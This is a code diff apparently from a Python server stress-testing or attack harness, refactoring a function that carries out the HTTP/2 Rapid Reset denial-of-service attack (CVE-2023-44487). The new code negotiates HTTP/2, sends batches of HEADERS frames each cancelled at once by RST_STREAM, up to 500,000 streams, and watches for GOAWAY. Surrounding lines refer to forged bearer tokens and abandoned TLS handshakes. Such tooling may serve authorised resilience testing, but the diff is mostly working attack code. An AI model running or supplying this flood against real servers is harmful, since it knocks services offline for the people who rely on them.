@@ -25,6 +25,7 @@ COLL, DOCS, LARGE = "/dbs/crowd/colls/c", "/dbs/crowd/colls/c/docs", "/dbs/crowd
 BODY_BYTES_MAX = 4 << 20
 PARTITION_A = b'x-ms-documentdb-partitionkey: ["a"]\r\n'
 SERVER_FAULTS = {500, 502, 504}
+SKIPPED = "skipped: "
 
 
 class Field:
@@ -375,7 +376,7 @@ def forged_bearers(field):
 def handshakes(field):
     """TLS handshakes that are begun and left, ended, or no handshakes at all, some 20 at a time."""
     if not field.secure:
-        return "skipped: no https"
+        return SKIPPED + "no https"
     context = ssl._create_unverified_context()
     address = Peer(field.secure).address
     done = collections.Counter()
@@ -420,29 +421,73 @@ def h2_frame(kind, flags, stream, payload):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-def rapid_reset(field):
-    """Streams that are opened and reset at once, as many as go: CVE-2023-44487."""
-    with field.peer.connect() as s:
-        s.settimeout(3)
-        push(s, H2_PREFACE)
-        try:
-            first = s.recv(9)
-        except OSError:
-            first = b""
-    if len(first) < 9 or first[3] != 4:
-        return "skipped: no HTTP/2"
-    request = bytes([0x82, 0x86, 0x84, 0x41, 9]) + b"localhost"
-    sent = ended = 0
-    while field.goes_on() and sent < 500000:
-        with field.peer.connect() as s:
-            s.settimeout(5)
+def connect_h2(field):
+    """A connection that speaks HTTP/2, by ALPN or by its preface; None where the server does not."""
+    if field.secure:
+        context = ssl._create_unverified_context()
+        context.set_alpn_protocols(["h2", "http/1.1"])
+        s = context.wrap_socket(socket.create_connection(Peer(field.secure).address, 5))
+        if s.selected_alpn_protocol() == "h2":
             push(s, H2_PREFACE)
-            for first_stream in range(1, 20001, 200):
-                frames = b"".join(h2_frame(1, 5, n, request) + h2_frame(3, 0, n, struct.pack(">I", 8)) for n in range(first_stream, first_stream + 200, 2))
-                if not push(s, frames):
-                    ended += 1
-                    break
-                sent += 100
+            return s
+        s.close()
+    s = field.peer.connect()
+    s.settimeout(3)
+    push(s, H2_PREFACE)
+    try:
+        first = s.recv(9)
+    except OSError:
+        first = b""
+    if len(first) == 9 and first[3] == 4:  # its SETTINGS
+        return s
+    s.close()
+    return None
+
+
+def reset_streams(s):
+    """As many as go on one connection; whether the server has ended it."""
+    request = bytes([0x82, 0x86, 0x84, 0x41, 9]) + b"localhost"
+    for first in range(1, 20001, 200):
+        streams = range(first, first + 200, 2)
+        if not push(s, b"".join(h2_frame(1, 5, n, request) + h2_frame(3, 0, n, struct.pack(">I", 8)) for n in streams)):
+            return first // 2, True
+    return 10000, says_goodbye(s)
+
+
+def says_goodbye(s):
+    """Whether a GOAWAY is among the frames that have come, or the connection has ended."""
+    came = b""
+    try:
+        s.settimeout(1)
+        while len(came) < 1000000:
+            part = s.recv(65536)
+            if not part:
+                return True
+            came += part
+    except TimeoutError:
+        pass
+    except OSError:
+        return True
+    at, kinds = 0, set()
+    while at + 9 <= len(came):
+        kinds.add(came[at + 3])
+        at += 9 + int.from_bytes(came[at:at + 3], "big")
+    return 7 in kinds
+
+
+def rapid_reset(field):
+    """Streams that are opened and reset at once: CVE-2023-44487."""
+    sent = ended = 0
+    while sent < 500000:
+        s = connect_h2(field)
+        if not s:
+            return SKIPPED + "no HTTP/2"
+        with s:
+            s.settimeout(5)
+            count, is_ended = reset_streams(s)
+        sent, ended = sent + count, ended + is_ended
+        if not field.goes_on():
+            break
     return "%d streams were opened and reset; %d connections were ended" % (sent, ended)
 
 
